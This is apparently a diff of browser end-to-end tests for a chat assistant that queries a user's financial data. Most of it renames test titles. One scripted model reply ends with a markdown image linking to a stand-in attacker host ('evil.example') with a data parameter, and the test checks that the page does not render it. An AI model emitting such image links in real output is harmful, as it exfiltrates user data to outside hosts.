@@ -37,7 +37,7 @@ async function ask(page: Page, text: string): Promise<void> {
   await page.keyboard.press("Enter");
 }
 
-test("without a key a card says what is needed, and takes one", slow, async () => {
+test("without a key, a card explains what is needed and accepts one", slow, async () => {
   const { page } = visit;
   await page.goto("/assistant");
   await page.getByRole("heading", { name: "The assistant needs a model" }).waitFor();
@@ -53,49 +53,45 @@ test("without a key a card says what is needed, and takes one", slow, async () =
   expect(await page.content()).not.toContain(key);
 });
 
-test(
-  "an answer is seen while it is written, with the query behind it, its rows, its sources and its cost",
-  slow,
-  async () => {
-    const { page } = visit;
-    const { opened, open } = gate();
-    models.script(
-      {
-        thinking: "The net worth by day is wanted.",
-        calls: [{ id: "c1", name: "query_sql", input: { sql } }],
-      },
-      {
-        words: [
-          "# Net worth\n\nYou held **much**.\n\n",
-          "| Day | Value |\n| --- | ---: |\n| 1 | 2 |\n\n",
-          "![x](https://evil.example/?d=1)",
-        ],
-        pauseAfter: 4,
-        go: opened,
-        usage: { input: 1_000, output: 100 },
-      },
-    );
-    await ask(page, "How did my net worth go?");
-    const answer = page.getByRole("article", { name: "Assistant" });
-    await answer.getByText("You held much.").waitFor();
-    await page.getByRole("button", { name: "Stop" }).waitFor();
-    const call = answer.locator("details", { hasText: "Queried your data" });
-    expect(await call.locator("table").isVisible()).toBe(false);
-    open();
-    await page.getByRole("button", { name: "Send", exact: true }).waitFor();
-    await answer.getByText(/GPT-6.1 Sol · up to \$0\.\d+ · \d+ s/).waitFor();
-    expect(await answer.innerHTML()).not.toMatch(/evil\.example\/|<img|<a /);
-    expect(await call.locator("summary").textContent()).toMatch(/40 rows/);
-    await call.locator("summary").click();
-    await call.getByText(sql).waitFor();
-    expect(await call.locator("tbody tr").count()).toBe(12);
-    expect(await call.getByRole("img", { name: /^value, / }).isVisible()).toBe(true);
-    expect(visit.complaints.filter((text) => !text.includes("409") && !text.includes("400"))).toEqual([]);
-    expect(page.url()).toContain("chat=");
-  },
-);
+test("an answer is shown while it is written, with its query, rows, sources and cost", slow, async () => {
+  const { page } = visit;
+  const { opened, open } = gate();
+  models.script(
+    {
+      thinking: "The net worth by day is wanted.",
+      calls: [{ id: "c1", name: "query_sql", input: { sql } }],
+    },
+    {
+      words: [
+        "# Net worth\n\nYou held **much**.\n\n",
+        "| Day | Value |\n| --- | ---: |\n| 1 | 2 |\n\n",
+        "![x](https://evil.example/?d=1)",
+      ],
+      pauseAfter: 4,
+      go: opened,
+      usage: { input: 1_000, output: 100 },
+    },
+  );
+  await ask(page, "How did my net worth go?");
+  const answer = page.getByRole("article", { name: "Assistant" });
+  await answer.getByText("You held much.").waitFor();
+  await page.getByRole("button", { name: "Stop" }).waitFor();
+  const call = answer.locator("details", { hasText: "Queried your data" });
+  expect(await call.locator("table").isVisible()).toBe(false);
+  open();
+  await page.getByRole("button", { name: "Send", exact: true }).waitFor();
+  await answer.getByText(/GPT-6.1 Sol · up to \$0\.\d+ · \d+ s/).waitFor();
+  expect(await answer.innerHTML()).not.toMatch(/evil\.example\/|<img|<a /);
+  expect(await call.locator("summary").textContent()).toMatch(/40 rows/);
+  await call.locator("summary").click();
+  await call.getByText(sql).waitFor();
+  expect(await call.locator("tbody tr").count()).toBe(12);
+  expect(await call.getByRole("img", { name: /^value, / }).isVisible()).toBe(true);
+  expect(visit.complaints.filter((text) => !text.includes("409") && !text.includes("400"))).toEqual([]);
+  expect(page.url()).toContain("chat=");
+});
 
-test("an answer is stopped by its button, and a reload shows it as it was", slow, async () => {
+test("an answer is stopped by its button and unchanged after a reload", slow, async () => {
   const { page } = visit;
   models.script({ words: ["It begins", " and never ends"], pauseAfter: 4, go: new Promise(() => undefined) });
   await ask(page, "Tell me more");
@@ -108,7 +104,7 @@ test("an answer is stopped by its button, and a reload shows it as it was", slow
   expect(await page.getByRole("article", { name: "You" }).count()).toBe(2);
 });
 
-test("a failure is told in the provider's words, and asked again", slow, async () => {
+test("a failure is shown in the provider's words, with a retry", slow, async () => {
   const { page } = visit;
   models.script(
     { status: 400, body: { error: { message: "The tide is out." } } },
@@ -120,7 +116,7 @@ test("a failure is told in the provider's words, and asked again", slow, async (
   await page.getByText("It is back.").waitFor();
 });
 
-test("an answer goes on over a reload", slow, async () => {
+test("an answer continues across a reload", slow, async () => {
   const { page } = visit;
   const { opened, open } = gate();
   await page.getByRole("button", { name: "New chat" }).click();
@@ -133,7 +129,7 @@ test("an answer goes on over a reload", slow, async () => {
   await page.getByText("Before and after.").waitFor();
 });
 
-test("past chats are found by their words, saved as files and deleted, in every window", slow, async () => {
+test("past chats are searched, saved as files and deleted, in every window", slow, async () => {
   const { page } = visit;
   const other = await visit.context.newPage();
   await other.goto("/assistant");
@@ -162,7 +158,7 @@ describe.each([
   ["light", 360],
   ["dark", 360],
 ] as const)("%s, %i wide", (colorScheme, width) => {
-  test("the chat, its calls and its keys are clean", slow, async () => {
+  test("the chat, its tool calls and its keys are accessible", slow, async () => {
     const narrow = await world.open({
       colorScheme,
       viewport: { width, height: 800 },
